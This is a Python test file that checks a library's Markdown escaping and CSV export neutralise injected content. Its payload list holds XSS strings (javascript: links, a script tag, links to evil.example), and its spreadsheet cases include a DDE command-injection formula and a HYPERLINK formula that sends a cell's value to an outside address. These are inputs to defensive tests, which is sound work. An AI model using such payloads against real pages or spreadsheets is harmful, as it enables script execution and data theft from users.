"""Text from data shown as typed: Markdown and HTML escaping, spreadsheet-safe CSV cells.

Each payload is rendered by the Markdown renderer the report pages use (nbconvert's
``markdown2html``, mistune) and must come out as plain text that reads as the input: no
link, emphasis, table, code, heading, list or raw HTML.
"""

import html
import re

import pandas as pd
import pytest

from journeylib.overview.findings import as_markdown
from journeylib.show.exports import spreadsheet_safe, write_csv
from journeylib.show.inert import markdown_text, spreadsheet_cell

PAYLOADS = [
    "[ch](javascript:alert(1))",
    "**bold** | table | [cat](javascript:alert(2))",
    "| a | b |\n|---|---|\n| c | d |",
    "`code` and ``more``",
    "<http://evil.example/x> <b>bold</b> <script>alert(3)</script>",
    "see http://evil.example/path and https://x.example and www.evil.example",
    "_under_ ~~strike~~ $x^2$ ![img](http://evil.example/i.png)",
    "# heading",
    "1. first",
    "- item",
    "> quote",
    "[ref]: http://evil.example",
    "&lt;script&gt; stays as typed",
    "a\\*b\\",
]
_LIVE = re.compile(r"<(?!/?p>|/?ul>|/?li>)[a-z!/]", flags=re.I)


def render(markdown: str) -> str:
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown)


def visible(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_text_renders_as_the_plain_text_it_was(payload):
    rendered = render(markdown_text(payload))
    assert _LIVE.search(rendered) is None, rendered
    assert "href" not in rendered and "javascript:" not in rendered.replace("javascript:alert", "")
    assert visible(rendered) == " ".join(payload.split("\n")), rendered


def test_markdown_text_keeps_ordinary_sentences_readable():
    sentence = "Checkout completion rose to 57.3 % from 51 % (+6 points, 95 % interval 3 to 9)."
    assert markdown_text(sentence) == sentence
    assert markdown_text("12. place") == "12\\. place"  # would start an ordered list
    assert markdown_text("57.3 % of users") == "57.3 % of users"


def test_findings_show_every_payload_as_one_plain_bullet():
    shown = as_markdown(PAYLOADS, title="Findings for [x](javascript:y)").data
    rendered = render(shown)
    assert rendered.count("<li>") == len(PAYLOADS)
    assert "<a " not in rendered and "<table" not in rendered and "<code" not in rendered
    assert "<em>" not in rendered and "<h1" not in rendered and "<script" not in rendered
    assert rendered.count("<strong>") == 1  # the title's own bold, nothing from the data
    assert "Findings for [x](javascript:y)" in visible(rendered)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x/?"&A1,"u1")', '\'=HYPERLINK("http://x/?"&A1,"u1")'),
        ("+cmd|' /C calc'!A1", "'+cmd|' /C calc'!A1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_cell_follows_owasp(value, expected):
    assert spreadsheet_cell(value) == expected


def test_write_csv_neutralises_formulas_keeps_numbers_and_leaves_the_frame(tmp_path):
    frame = pd.DataFrame(
        {
            "user_id": ["=1+1", "u2", "@x", None],
            "=label": ["-a", "b", "+c", "d"],
            "score": [-1.5, 2.0, -3.0, 0.0],
        }
    )
    before = frame.copy()
    path = write_csv(frame, tmp_path / "out.csv")
    assert path.read_text().splitlines() == [
        "user_id,'=label,score",
        "'=1+1,'-a,-1.5",
        "u2,b,2.0",
        "'@x,'+c,-3.0",
        ",d,0.0",
    ]
    pd.testing.assert_frame_equal(frame, before)  # the input is not modified
    assert list(tmp_path.iterdir()) == [path]  # no temporary file left


def test_spreadsheet_safe_reads_string_dtype_columns():
    frame = pd.DataFrame({"x": pd.array(["=a", pd.NA, "b"], dtype="string")})
    assert spreadsheet_safe(frame).x.tolist()[0] == "'=a"
    assert spreadsheet_safe(frame).x.isna().tolist() == [False, True, False]


def test_every_csv_export_goes_through_the_shared_writer():
    from pathlib import Path

    package = Path(__file__).resolve().parents[1] / "journeylib"
    writers = [
        p.name
        for p in package.rglob("*.py")
        if ".to_csv(" in p.read_text(encoding="utf-8") and p.name != "exports.py"
    ]
    assert writers == [], f"CSV written without journeylib.show.exports.write_csv in {writers}"
